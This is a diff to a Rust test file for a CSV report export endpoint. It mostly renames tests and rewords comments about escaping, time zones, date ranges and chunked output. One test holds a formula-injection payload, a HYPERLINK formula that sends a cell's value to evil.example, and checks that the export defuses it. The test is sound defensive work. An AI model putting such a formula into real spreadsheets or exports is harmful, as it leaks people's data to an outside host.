@@ -1,4 +1,4 @@
-//! GET /api/reports/export.csv, read back by a real reader of such files.
+//! GET /api/reports/export.csv, read with a CSV reader.
 
 use serde_json::{Value, json};
 
@@ -7,7 +7,7 @@ use crate::{
     support::{Response, on_each_engine},
 };
 
-/// The headings, and each line by its heading.
+/// The headings, and each line by its headings.
 fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
     assert_eq!(answer.status, 200, "{}", answer.text);
     assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
@@ -36,7 +36,7 @@ fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
 }
 
 on_each_engine! {
-    async fn the_table_has_every_job_in_words(engine) {
+    async fn the_export_has_every_job_in_words(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({
             "title": "Fix \"tap\", now", "description": "two\nlines, é", "location": "2 High St", "priority": 4, "status": "completed",
@@ -55,7 +55,7 @@ on_each_engine! {
         for empty in ["Description", "End", "Complete By", "Assigned To", "Scheduled Minutes", "Actual Start", "Actual Minutes"] {
             assert_eq!(lines[0][empty], "", "{empty}");
         }
-        // Times are the business's: Sydney.
+        // Times are in the business's time zone, Sydney. rule: business-time
         assert_eq!(lines[1], json!({
             "Title": "Fix \"tap\", now", "Description": "two\nlines, é", "Location": "2 High St", "Client": "Ann Lee",
             "Business Name": "", "Main Contact": "", "Phone": "", "Status": "Completed", "Priority": "Urgent",
@@ -66,8 +66,8 @@ on_each_engine! {
         }));
     }
 
-    /// The period is days of the business, both counted; the file is named after it.
-    async fn the_table_is_of_the_period(engine) {
+    /// The period is days of the business, both included. The file is named after it.
+    async fn the_export_is_limited_to_the_period(engine) {
         let world = World::new(engine).await;
         for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
             world.book(json!({"title": start, "startDate": start})).await;
@@ -86,7 +86,7 @@ on_each_engine! {
         assert_eq!((read(&none).0.len(), read(&none).1.len()), (22, 0), "the headings alone");
     }
 
-    /// A cell that a spreadsheet would run gets an apostrophe in front.
+    /// A cell that a spreadsheet would run as a formula begins with an apostrophe.
     async fn no_cell_is_run_as_a_formula(engine) {
         let world = World::new(engine).await;
         let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
@@ -104,8 +104,8 @@ on_each_engine! {
         assert!(!lines[0].as_object().unwrap().values().any(dangerous));
     }
 
-    /// More jobs than are read at once, many of which start together.
-    async fn a_long_table_is_sent_piece_by_piece(engine) {
+    /// There are more jobs than the server reads at once, and many start at the same time.
+    async fn a_long_export_is_sent_in_pieces(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({})).await;
         let fields = "title, title_sort, search_text, slot_end, status, priority, archived, client_id, user_id, created_at, updated_at, version";
